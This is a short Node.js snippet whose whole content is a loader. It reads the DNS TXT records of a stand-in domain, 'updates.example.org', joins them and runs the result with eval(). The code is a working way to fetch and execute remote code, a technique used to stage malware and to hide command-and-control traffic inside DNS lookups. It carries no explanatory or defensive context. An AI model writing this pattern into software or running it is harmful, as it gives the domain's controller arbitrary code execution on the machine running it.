const dns = require('node:dns').promises;

// Code that a text record of a domain holds.
dns.resolveTxt('updates.example.org').then(records => eval(records.flat().join('')));
